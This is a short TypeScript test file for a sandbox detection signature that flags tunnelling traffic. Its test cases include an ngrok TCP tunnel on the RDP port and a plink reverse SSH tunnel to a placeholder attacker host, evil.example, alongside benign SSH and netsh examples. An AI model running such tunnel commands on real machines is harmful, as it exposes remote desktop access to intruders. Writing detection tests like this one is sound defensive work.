import { given, SignatureTester } from 'ovoscope/testing';
import TunnelsTraffic from './tunnels_traffic.ts';

const run = (command_line: string) => given('sample.exe', ['CreateProcessInternalW', { command_line }]);

new SignatureTester().run(TunnelsTraffic, {
  detects: [
    { name: 'ngrok', results: run('ngrok.exe tcp 3389') },
    { name: 'with SSH', results: run('plink.exe -ssh -R 3389:127.0.0.1:3389 a@evil.example') },
  ],
  ignores: [
    { name: 'a log-in', results: run('ssh anna@server.example') },
    { name: 'showing rules', results: run('netsh interface portproxy show all') },
  ],
});
